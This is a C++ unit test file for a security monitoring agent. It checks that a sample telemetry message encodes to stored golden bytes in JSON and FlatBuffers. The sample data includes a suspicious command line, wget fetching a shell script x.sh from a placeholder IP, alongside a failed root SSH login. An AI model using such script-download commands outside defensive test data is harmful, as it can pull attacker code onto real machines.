#include <gtest/gtest.h>

#include <cstdlib>
#include <fstream>
#include <sstream>

#include "agent_core/message/message.h"

// The wire bytes of one small message for each encoding, kept for ever: JSON as text, FlatBuffers as hex.
// After an intended change: UPDATE_GOLDEN=1 ctest -R Golden, and read the difference.

namespace picket {
namespace {

struct Sample {
  TextTable texts;
  std::vector<Observation> observations;
  AgentIdentity identity;
  SecurityMessage message;

  Sample() {
    const Time end = Time::from_unix_seconds(1'767'225'600);  // 2026-01-01T00:00:00Z
    Observation process;
    Text download = texts.intern_template("wget \"http://{ipv4}/x.sh\"");
    download.parameter = 0xc0000201;
    process.record = ProcessRecord{download, texts.intern("/usr/bin/wget"), 4242, 1, 1000, ProcessOperation::kExec};
    process.first_time = process.last_time = process.window_start = process.window_end = end - Duration::seconds(90);
    observations.push_back(process);

    Observation flow;
    NetworkRecord network;
    network.local_address = IpAddress::v4(0x0a000001);
    network.remote_address = IpAddress::v4(0xc6336407);
    network.local_port = 22;
    network.remote_port = 50'000;
    network.direction = Direction::kInbound;
    network.bytes_in = 1'200;
    network.bytes_out = 800;
    network.commandline = texts.intern("sshd");
    texts.set_executable(network.commandline, texts.intern("/usr/sbin/sshd"));
    flow.record = network;
    flow.hit_count = 3;
    flow.aggregated = true;
    flow.window_start = end - Duration::hours(1);
    flow.first_time = end - Duration::minutes(50);
    flow.last_time = end - Duration::minutes(5);
    flow.window_end = end;
    observations.push_back(flow);

    Observation login;
    login.record = LoginRecord{texts.intern("root"), texts.intern("/usr/sbin/sshd"), IpAddress::v6(0x2001'0db8ULL << 32, 1),
                               777, LoginOperation::kLoginFailed};
    login.first_time = login.last_time = login.window_start = login.window_end = end - Duration::seconds(30);
    observations.push_back(login);

    identity.module_name = "DefenderIotMicroAgent";
    identity.agent_version = "4.6.2";
    identity.agent_id = {0x072f3eca3db045ba, 0x8174fa383bc93caf};
    identity.id_seed = {1, 2};
    message.sequence = 7;
    message.created = end;
    message.observations = observations;
    message.collection_interval = Duration::hours(1);
  }
};

std::string hex(const std::string& bytes) {
  std::string text;
  for (std::size_t i = 0; i < bytes.size(); ++i) {
    const auto byte = static_cast<unsigned char>(bytes[i]);
    text += "0123456789abcdef"[byte >> 4];
    text += "0123456789abcdef"[byte & 0xf];
    text += i % 32 == 31 ? '\n' : ' ';
  }
  return text;
}

void compare_with_golden(const std::string& name, const std::string& text) {
  std::string path = PICKET_SOURCE_DIR;
  path.append("/tests/golden/message/").append(name);
  if (std::getenv("UPDATE_GOLDEN") != nullptr) {
    std::ofstream(path) << text << '\n';
    return;
  }
  std::ifstream file(path);
  ASSERT_TRUE(file.good()) << path;
  std::ostringstream kept;
  kept << file.rdbuf();
  EXPECT_EQ(text + '\n', kept.str()) << "see the head of this file for how to update " << path;
}

TEST(Golden, generation_1_bytes_are_as_kept) {
  const Sample sample;
  std::string bytes;
  encode(Encoding::kG1Json, sample.identity, sample.message, sample.texts, bytes);
  compare_with_golden("g1.json", bytes);
}

TEST(Golden, generation_2_bytes_are_as_kept) {
  const Sample sample;
  std::string bytes;
  encode(Encoding::kG2FlatBuffers, sample.identity, sample.message, sample.texts, bytes);
  compare_with_golden("g2.hex", hex(bytes));
}

TEST(Golden, generation_2_extended_bytes_are_as_kept) {
  Sample sample;
  sample.identity.extended = true;
  std::string bytes;
  encode(Encoding::kG2FlatBuffers, sample.identity, sample.message, sample.texts, bytes);
  compare_with_golden("g2_extended.hex", hex(bytes));
}

}  // namespace
}  // namespace picket
